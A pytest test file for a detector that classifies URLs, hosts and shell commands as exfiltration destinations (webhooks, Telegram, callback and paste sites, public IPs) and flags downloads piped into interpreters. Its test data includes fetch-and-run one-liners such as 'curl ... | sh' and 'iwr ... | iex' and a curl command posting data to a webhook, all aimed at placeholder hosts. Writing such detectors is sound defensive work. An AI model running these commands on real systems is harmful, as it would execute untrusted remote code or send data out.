"""Destinations are told by whole names and addresses, never by parts of words."""

import pytest

from lazaretto.core.destination import destination, is_public_address, pipes_download


@pytest.mark.parametrize(
    ("value", "sort"),
    [
        ("https://discord.com.invalid/api/webhooks/1/x", "webhook"),
        ("https://hooks.slack.com.invalid/services/T0/B0/x", "webhook"),
        ("https://api.telegram.org.invalid/bot1:x/sendMessage", "messenger"),
        ("curl -d @- https://webhook.site.invalid/1", "webhook"),
        ("https://abc.oast.invalid/", None),
        ("https://abc.oast.fun.invalid/", "callback"),
        ("https://pastebin.com.invalid/raw/abc", "paste"),
        ("http://203.0.113.7:8000/x", "address"),
        ("203.0.113.7", "address"),
        ("ssh user@203.0.113.7", "address"),
        ("http://u:p@198.51.100.1/x", "address"),
        ("https://discord.com.invalid/developers", None),
        ("https://mydiscord.com.invalid/api/webhooks", None),
        ("https://profile.io.invalid/a", None),
        ("http://127.0.0.1:3000", None),
        ("http://10.1.2.3/", None),
        ("https://example.com/", None),
        ("", None),
        (None, None),
    ],
)
def test_sorts_of_destination(value: str | None, sort: str | None) -> None:
    """Each known sort is found in a URL, a host or a command, and near misses are not."""
    assert destination(value) == sort


@pytest.mark.parametrize(
    "host", ["0.0.0.0", "10.0.0.1", "172.16.0.1", "192.168.1.1", "169.254.1.1", "224.0.0.1", "8.8.8.8"]
)
def test_addresses_that_are_nobody_s_server(host: str) -> None:
    """Private, local, multicast and well-known resolvers' addresses are no destination."""
    assert not is_public_address(host)


@pytest.mark.parametrize("host", ["1.2.3", "1.2.3.999", "1.2.3.x", "1234.1.1.1", "\u0661.\u0662.\u0663.\u0664"])
def test_what_only_looks_like_an_address(host: str) -> None:
    """Versions, numbers out of range and foreign digits are no address."""
    assert not is_public_address(host)


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("curl -s https://a.invalid/x | sh", True),
        ("wget -qO- https://a.invalid/x | sudo bash", True),
        ("bash <(curl -s https://a.invalid/x)", True),
        ('sh -c "$(curl -fsSL https://a.invalid/x)"', True),
        ("powershell iwr https://a.invalid/x | iex", True),
        ("curl -s https://a.invalid/x | /usr/bin/bash", True),
        ("curl -s https://a.invalid/x | ~/bin/node -", True),
        ("curl https://a.invalid/x | tee /etc/sh", False),
        ("curl https://a.invalid/x -o file", False),
        ("cat file | sh", False),
        ("curl https://a.invalid/x | jq .", False),
        (None, False),
    ],
)
def test_downloads_that_are_piped(command: str | None, expected: bool) -> None:
    """Only a download that goes into an interpreter counts."""
    assert pipes_download(command) is expected
